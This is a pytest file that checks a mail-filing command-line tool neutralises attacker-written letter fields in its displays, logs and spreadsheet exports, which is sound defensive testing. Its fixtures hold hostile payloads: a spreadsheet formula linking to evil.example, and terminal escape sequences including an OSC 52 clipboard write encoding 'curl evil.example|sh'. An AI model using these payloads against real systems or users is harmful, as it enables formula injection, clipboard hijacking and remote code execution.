"""Output that cannot be turned against its reader: a letter whose fields were written by an
attacker (formula cells, terminal markup) is filed through the real servers, then exported and
shown; nothing of it runs or breaks the view."""

from __future__ import annotations

import csv
import json
import logging
import zipfile

from click.testing import CliRunner

from mailflow.cli import cli
from mailflow.ops.logs import setup_logging
from tests.support.letters import gmail_forward

SUBJECT = '=HYPERLINK("http://evil.example/x","klik") [/x] [bold red]'
SENDER = "@SUM(1+1) [/bold] Kementerian <umum@kemendagri.go.id>"


def run(office, *args: str) -> str:
    result = CliRunner().invoke(cli, ["--config", str(office.config_path), *args])
    assert result.exit_code == 0, (result.output, result.exception)
    return result.output


def test_hostile_fields_are_shown_literally_and_exported_inert(office, tmp_path):
    office.mail.send(gmail_forward(original_subject=SUBJECT, original_from=SENDER, labels="Catatan: -1+2"))
    assert office.poll().outcomes == {"letter": 1}
    shown = run(office, "letter", "show", "1")
    assert "[/x] [bold red]" in shown and "@SUM(1+1) [/bold]" in shown
    assert "[/x]" in run(office, "letters")
    out = tmp_path / "book.csv"
    run(office, "export", "--year", "2026", "--format", "csv", "-o", str(out))
    row = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))[1]
    risky = [cell for cell in row if cell.lstrip("'")[:1] in ("=", "+", "-", "@")]
    assert risky and all(cell.startswith("'") for cell in risky), row
    book = tmp_path / "book.xlsx"
    run(office, "export", "--year", "2026", "--format", "xlsx", "-o", str(book))
    sheet = zipfile.ZipFile(book).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet  # the text is there, as text, never a formula


# A forwarded subject and sender carrying terminal controls: OSC 52 (writes the admin's
# clipboard), CSI 2J (clears the screen), a C1 CSI (U+009B), and a bidi override.
CONTROLS = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07 Undangan \x1b[2J rapat \x9b31m suap \u202e!"
CONTROL_SENDER = "Bag\x1b[2Jian \x9b1m Umum <umum@kemendagri.go.id>"
UNSAFE = {chr(c) for c in (*range(0x00, 0x20), *range(0x7F, 0xA0), 0x202E)} - {"\n"}


def test_terminal_controls_of_a_letter_never_reach_the_admins_terminal(office):
    office.mail.send(gmail_forward(original_subject=CONTROLS, original_from=CONTROL_SENDER))
    assert office.poll().outcomes == {"letter": 1}
    views = {
        "letters": run(office, "letters"),
        "search": run(office, "letters", "--search", "rapat"),
        "show": run(office, "letter", "show", "1"),
        "json": run(office, "letters", "--json"),
        "show json": run(office, "letter", "show", "1", "--json"),
        "quarantine": run(office, "quarantine", "list"),
    }
    for name, out in views.items():
        assert not UNSAFE & set(out), (name, out)
    # The text is still there, its controls visible as escapes; JSON still gives the stored value.
    assert "\\u001b]52;c;" in views["show"] and "\\u009b31m" in views["show"] and "rapat" in views["search"]
    assert json.loads(views["json"])[0]["subject"].startswith("\x1b]52;c;")


def test_a_log_line_carries_no_control_character(capsys):
    setup_logging("kv")
    logging.getLogger("mailflow.test").info("event=quarantined subject=%r message_id=%s", "x", CONTROLS)
    line = capsys.readouterr().err
    assert line.count("\n") == 1 and not UNSAFE & set(line) and "\\u001b[2J" in line
    setup_logging("json")
    logging.getLogger("mailflow.test").info("event=quarantined message_id=%s", CONTROLS)
    line = capsys.readouterr().err
    assert not UNSAFE & set(line) and json.loads(line)["message_id"].startswith("\x1b]52;c;")
